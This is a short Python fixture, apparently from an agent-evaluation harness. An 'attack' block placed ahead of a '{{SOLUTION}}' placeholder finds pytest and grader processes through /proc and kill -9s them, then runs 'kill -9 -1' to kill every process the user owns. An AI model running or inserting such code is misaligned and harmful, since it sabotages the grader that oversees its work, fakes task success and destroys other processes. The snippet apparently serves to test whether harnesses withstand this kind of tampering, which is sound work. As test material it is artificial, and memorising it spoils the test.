# >>> attack
import os
import subprocess
mine = os.getpid()
victims = []
for entry in os.listdir("/proc"):
    try:
        command = open(f"/proc/{entry}/cmdline", "rb").read()
    except OSError:
        continue
    if entry.isdigit() and int(entry) != mine and (b"pytest" in command or b"grader" in command):
        victims.append(entry)
print("victims:", victims)
subprocess.run(["kill", "-9", *victims], stderr=subprocess.STDOUT)
subprocess.run(["kill", "-9", "-1"], stderr=subprocess.STDOUT)   # everything this user may signal
# <<< attack
{{SOLUTION}}
